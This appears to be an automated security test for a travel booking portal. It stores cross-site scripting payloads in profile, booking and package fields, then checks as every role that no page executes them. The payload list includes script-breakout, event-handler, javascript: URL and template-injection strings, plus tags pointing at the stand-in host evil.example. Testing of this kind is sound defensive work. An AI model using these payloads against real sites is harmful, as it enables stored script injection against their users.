import type { Browser } from '@playwright/test';
import { pageRoutes } from '@portal/contracts';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { hostileStrings } from '../attacks/hostile-strings';
import { bookablePackage, packageBooking, profile, travelPackage } from '../calls/sample-bodies';
import { demoAccount, newAccount, type Account } from '../portal/accounts';
import { openBrowser, windowOf, withDemoIds } from '../portal/browsing';
import { noteFigures } from '../portal/figures';
import { bearer, sendJson } from '../portal/http';
import { amount } from '../portal/settings';

const { url } = inject('portal');
const figures = { 'texts stored': 0, 'screens opened': 0, executed: 0, 'policy violations': 0 };

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(async () => {
  noteFigures('stored markup', figures);
  await browser.close();
});

const calling = 'globalThis.__executed=1';
/** Of our own making: each says so when it runs, whatever the place it is written to. */
const own = [
  `<img src=x onerror=${calling}>`,
  `"><svg onload=${calling}>`,
  `'><script>${calling}</script>`,
  `<iframe srcdoc="<script>parent.__executed=1</script>">`,
  `</script><script>${calling}</script>`,
  `</title><img src=x onerror=${calling}>`,
  `javascript:${calling}`,
  `{{constructor.constructor("${calling}")()}}`,
  `<a href="javascript:${calling}">x</a>`,
  `<details open ontoggle=${calling}>`,
  '<style>@import "//evil.example/x.css"</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input type=submit>',
];
const isMarkup = (text: string): boolean => /[<>]|javascript:|on\w+=/i.test(text) && text.length < 1_900;

/** One account that has written the text into everything it may write. */
async function store(text: string, admin: Account, packages: string[]): Promise<void> {
  const account = await newAccount(url, 'client', admin.token);
  const short = text.slice(0, 60);
  const send = (method: string, path: string, token: string, body: object) =>
    sendJson(url, { method, path, headers: bearer(token), body });
  const changes = {
    ...{ username: short, firstName: text.slice(0, 100), lastName: text.slice(0, 100), phoneNumber: text.slice(0, 30) },
    address: { ...profile.address, street: text.slice(0, 100) },
    emergencyContact: { name: text.slice(0, 100), relationship: text.slice(0, 100) },
    travelPreferences: { dietaryRestrictions: [text.slice(0, 100)] },
  };
  await send('PUT', '/api/auth/profile', account.token, changes);
  const booking = { ...packageBooking(await bookablePackage(url)), specialRequests: text };
  await send('POST', '/api/bookings', account.token, booking);
  const lists = {
    destinations: [text.slice(0, 200)],
    inclusions: [text.slice(0, 200)],
    exclusions: [text.slice(0, 200)],
  };
  const made = {
    ...travelPackage(),
    ...lists,
    name: text.slice(0, 200),
    description: text,
    duration: text.slice(0, 100),
  };
  const answer = await send('POST', '/api/packages', admin.token, made);
  const id = (answer.json as { data?: { _id: string } }).data?._id;
  if (id) packages.push(`/packages/${id}`);
  figures['texts stored'] += 1;
}

describe('markup that people have stored', () => {
  it('is shown as text on every screen, to every role', async () => {
    const admin = await demoAccount(url, 'admin');
    const packages: string[] = [];
    const texts = [...own, ...hostileStrings().filter(isMarkup)].slice(0, amount(24, 1_000));
    for (const text of texts) await store(text, admin, packages);
    const paths = [...pageRoutes.map(({ path }) => withDemoIds(path)), ...packages.slice(0, amount(8, 60))];
    const executed: string[] = [];
    for (const role of ['admin', 'employee', 'client'] as const) {
      const context = await windowOf(browser, role);
      const page = await context.newPage();
      page.on('dialog', (dialog) => {
        executed.push(`${page.url()} ${dialog.message()}`);
        void dialog.dismiss();
      });
      page.on('console', (message) => {
        if (/Content Security Policy|Trusted ?Type/i.test(message.text())) figures['policy violations'] += 1;
      });
      page.on('request', (request) => request.url().includes('evil.example') && executed.push(request.url()));
      for (const path of paths) {
        await page.goto(path);
        await page.waitForLoadState('networkidle');
        figures['screens opened'] += 1;
        if (await page.evaluate(() => '__executed' in globalThis)) executed.push(`${role} ${path}`);
      }
      await context.close();
    }
    figures.executed = executed.length;
    expect(executed).toEqual([]);
    expect(figures['policy violations']).toBe(0);
  });
});
